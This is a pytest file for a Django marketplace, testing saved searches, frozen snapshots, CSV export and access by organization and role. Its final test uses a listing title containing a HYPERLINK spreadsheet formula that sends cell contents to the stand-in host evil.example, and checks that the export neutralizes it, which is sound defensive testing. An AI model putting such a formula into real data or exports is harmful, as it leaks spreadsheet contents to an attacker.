"""Buyers save searches, freeze their results and export them as CSV."""

import csv
import io

import pytest

from accounts.roles import Role
from marketplace.models import Listing
from search.backends import get_backend
from search.models import SavedSearch, SearchSnapshot
from tests.factories import MembershipFactory
from tests.factories.catalog import CategoryFactory, published_listing

pytestmark = pytest.mark.django_db


@pytest.fixture
def indexed():
    manholes = CategoryFactory()
    listings = [
        published_listing(title="Manhole Guard", slug="guard", category=manholes),
        published_listing(title="Manhole Watch", slug="watch", category=manholes),
    ]
    get_backend().rebuild()
    return listings


def test_a_buyer_saves_freezes_and_exports_a_search(client, requester, indexed):
    client.force_login(requester)

    saved = client.post(
        "/search/saved/",
        {"name": "Manhole sensors", "querystring": "q=manhole&sort=rating&page=3&x=1"},
    )
    search = SavedSearch.objects.get()
    frozen = client.post(f"/search/saved/{search.pk}/freeze/")
    snapshot = SearchSnapshot.objects.get()
    # What the catalog does afterwards does not change the frozen list.
    Listing.objects.filter(slug="watch").update(title="Renamed Later")
    download = client.get(f"/search/snapshots/{snapshot.pk}.csv")

    assert saved.status_code == 302
    assert search.querystring == "q=manhole&sort=rating"
    assert search.organization == requester.memberships.get().organization
    assert frozen.status_code == 302
    assert snapshot.total == 2
    assert download["Content-Type"] == "text/csv; charset=utf-8"
    assert 'attachment; filename="manhole-sensors-' in download["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(download.content.decode())))
    assert sorted(row["title"] for row in rows) == ["Manhole Guard", "Manhole Watch"]
    assert rows[0]["rank"] == "1"
    assert rows[0]["price_from_minor_units"] == "68000"
    assert rows[0]["search"].endswith("/search/?q=manhole&sort=rating")
    listing = client.get("/search/saved/").content.decode()
    assert "Manhole sensors" in listing and "CSV of" in listing


def test_other_organizations_see_none_of_it(client, requester, indexed):
    client.force_login(requester)
    # Following the redirects shows (and so clears) the confirmation messages.
    client.post(
        "/search/saved/", {"name": "Mine", "querystring": "q=manhole"}, follow=True
    )
    search = SavedSearch.objects.get()
    client.post(f"/search/saved/{search.pk}/freeze/", follow=True)
    snapshot = SearchSnapshot.objects.get()

    client.force_login(MembershipFactory(role=Role.APPROVER).user)

    assert "Mine" not in client.get("/search/saved/").content.decode()
    assert client.post(f"/search/saved/{search.pk}/freeze/").status_code == 404
    assert client.get(f"/search/snapshots/{snapshot.pk}.csv").status_code == 404
    assert SearchSnapshot.objects.count() == 1


def test_viewers_and_vendors_cannot_save(client, buyer_org, indexed):
    from tests.factories.catalog import VendorFactory, vendor_member

    viewer = MembershipFactory(organization=buyer_org, role=Role.VIEWER).user
    client.force_login(viewer)
    as_viewer = client.post("/search/saved/", {"name": "X", "querystring": "q=a"})
    client.force_login(vendor_member(VendorFactory(), Role.OWNER))
    as_vendor = client.post("/search/saved/", {"name": "X", "querystring": "q=a"})

    assert (as_viewer.status_code, as_vendor.status_code) == (403, 403)
    assert not SavedSearch.objects.exists()


def test_a_bad_saved_search_is_refused(client, requester, indexed):
    client.force_login(requester)

    response = client.post(
        "/search/saved/",
        {"name": "Broken", "querystring": "sort=cheapest"},
        follow=True,
    )

    assert "Use one of relevance" in response.content.decode()
    assert not SavedSearch.objects.exists()


def test_the_snapshot_csv_neutralizes_a_listing_title(client, requester):
    evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Manhole Guard")'
    published_listing(title=evil, slug="evil", category=CategoryFactory())
    get_backend().rebuild()
    client.force_login(requester)
    client.post("/search/saved/", {"name": "Manholes", "querystring": "q=manhole"})
    client.post(f"/search/saved/{SavedSearch.objects.get().pk}/freeze/")

    download = client.get(f"/search/snapshots/{SearchSnapshot.objects.get().pk}.csv")

    rows = list(csv.DictReader(io.StringIO(download.content.decode())))
    assert [row["title"] for row in rows] == ["'" + evil]
